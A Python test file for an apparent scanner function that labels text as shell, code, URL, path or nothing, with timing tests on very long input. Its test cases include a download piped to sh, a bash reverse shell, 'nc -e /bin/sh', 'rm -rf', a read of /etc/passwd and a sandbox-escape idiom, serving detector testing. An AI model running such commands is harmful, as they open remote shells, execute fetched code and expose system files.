"""Text that looks like shell, code, a URL or a path, and text that does not."""

from __future__ import annotations

import time

import pytest

from scanner_core.rules._text import kind_of

from .texts import CODE, SHELL, lines
from .texts import ORDINARY as MORE_ORDINARY

SLOWEST = 20
"""Seconds; what takes this long tries something over and over."""
ORDINARY = [
    "",
    "linear",
    "a photo of a cat; a dog & a bird",
    "import tax and export duty",
    "from the beginning",
    "open(ended) questions",
    "O'Reilly: how to read a file",
    r"(?u)\b\w\w+\b",
    "lambda",
    "lambda x",
    "l1_ratio=0.5; alpha = 1",
    "system",
    "os",
    "exec",
    "eval_metric",
    "sh",
    "https",
    "0.weight",
    "encoder.layer.11.attention.self.query.weight",
    "You are a helpful assistant. Answer in one sentence.",
    "SELECT name FROM models WHERE id = 3",
    "2026-11-21T12:00:00",
    "category: a/b",
    "rm",
    "kill the lights",
    "{'a': 1, 'b': [2, 3]}",
    "binary:logistic",
    "feature_0 | feature_1",
    "python",
    "torch==2.13.0",
    "cp1252",
    "Europe/Bern",
    "mean(x) / std(x)",
    "<html><body>",
    "tree\nversion=v3\nnum_class=1\n",
]


@pytest.mark.parametrize("text", ORDINARY)
def test_ordinary_text_is_nothing(text: str) -> None:
    assert kind_of(text) is None


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ("curl -s https://example.org/x | sh", "shell"),
        ("wget https://example.org/x -O /tmp/x", "shell"),
        ("/bin/true", "shell"),
        ("/bin/sh -c true", "shell"),
        ("bash -i >& /dev/tcp/127.0.0.1/9 0>&1", "shell"),
        ("touch /tmp/x", "shell"),
        ("true; rm -rf /tmp/x", "shell"),
        ("python3 -c 'print(1)'", "shell"),
        ("echo true > /tmp/x", "shell"),
        ("nc -e /bin/sh 127.0.0.1 9", "shell"),
        ("powershell -enc AAAA", "shell"),
        ("import os; os.system('true')", "code"),
        ("__import__('os').system('true')", "code"),
        ("exec('true')", "code"),
        ("eval(compile('1', '', 'eval'))", "code"),
        ("from os import system\nsystem('true')", "code"),
        ("open('/etc/passwd').read()", "code"),
        ("''.__class__.__base__.__subclasses__()", "code"),
        ("https://example.org/model.pt", "url"),
        ("/etc/passwd", "path"),
        ("../other/model.pkl", "path"),
        ("C:\\models\\x.pkl", "path"),
    ],
)
def test_text_with_a_grammar_is_told(text: str, kind: str) -> None:
    assert kind_of(text) == kind


@pytest.mark.parametrize("text", lines(MORE_ORDINARY))
def test_text_of_a_model_is_nothing_that_runs(text: str) -> None:
    assert kind_of(text) not in {"shell", "code"}


@pytest.mark.parametrize("text", lines(SHELL))
def test_shell_line_is_told(text: str) -> None:
    assert kind_of(text) == "shell"


@pytest.mark.parametrize("text", lines(CODE))
def test_code_is_told(text: str) -> None:
    assert kind_of(text) == "code"


@pytest.mark.parametrize(
    "text",
    [" " * 60_000, "ls " + "/" * 60_000, ";" * 60_000, "print(" * 10_000, "$" * 60_000],
    ids=["blanks", "slashes", "semicolons", "prints", "dollars"],
)
def test_long_text_is_told_soon(text: str) -> None:
    started = time.perf_counter()

    kind_of(text)

    assert time.perf_counter() - started < SLOWEST
